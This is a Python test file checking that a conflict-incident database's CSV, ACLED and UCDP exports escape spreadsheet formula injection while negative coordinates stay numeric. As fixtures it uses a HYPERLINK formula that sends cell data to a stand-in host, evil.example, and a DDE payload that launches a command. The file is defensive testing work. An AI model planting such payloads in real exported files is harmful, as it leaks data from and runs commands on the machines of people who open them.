"""CSV exports are safe to open in a spreadsheet: text that would run as a formula is quoted, numbers
(a negative longitude among them) stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from harmledger.link import link_pending
from harmledger.publish import export_incidents
from harmledger.publish.formats import spreadsheet_safe, unescape_cell
from harmledger.store import Store
from harmledger.store.models import Document, Incident
from tests.link.linkbuild import document, mention

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(store: Store, fmt: str) -> list[dict[str, str]]:
    with store.session() as s:
        document(s, "d1", [mention("2017-04-04", "douma", weapons=("artillery",), killed=(5, 5))], outlet="@SOHR",
                 title="-2+3 killed")
        link_pending(s)
        incident = s.scalars(select(Incident)).one()
        # A place named by its reporter (any text reaches here) west of Greenwich and south of the equator.
        incident.place_name, incident.lon, incident.lat, incident.admin2 = FORMULA, -3.5, -0.25, "\tTab"
        s.get(Document, "d1").title = "+cmd|' /C calc'!A0"  # type: ignore[union-attr]
        s.flush()
        out = io.StringIO()
        export_incidents(s, fmt, out)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(("fmt", "place", "lon", "lat", "extra"), [
    ("csv", "place_name", "longitude", "latitude", {"admin2": "'\tTab", "source_titles": "'+cmd|' /C calc'!A0"}),
    ("acled", "location", "longitude", "latitude", {"admin2": "'\tTab", "source": "'@SOHR"}),
    ("ucdp", "where_coordinates", "longitude", "latitude", {"adm_2": "'\tTab", "source_office": "'@SOHR",
                                                            "source_headline": "'+cmd|' /C calc'!A0"}),
])
def test_text_is_quoted_and_numbers_are_not(sqlite_store: Store, fmt: str, place: str, lon: str, lat: str,
                                            extra: dict[str, str]) -> None:
    [row] = _rows(sqlite_store, fmt)
    assert row[place] == "'" + FORMULA
    assert (row[lon], row[lat]) == ("-3.5", "-0.25")
    for column, value in extra.items():
        assert row[column] == value, column
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
    assert all(v.lstrip("-").replace(".", "", 1).isdigit() for v in row.values() if v.startswith("-"))


def test_the_rule() -> None:
    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "--", "-3.5x", "=-3.5"):
        assert spreadsheet_safe(text) == "'" + text
        assert unescape_cell(spreadsheet_safe(text)) == text
    for value in (-3.5, 12, "-3.5", "+7", "-1e-05", "36.65", "Douma", "", None, "'=already quoted"):
        assert spreadsheet_safe(value) == value
    assert unescape_cell("'plain") == "'plain"
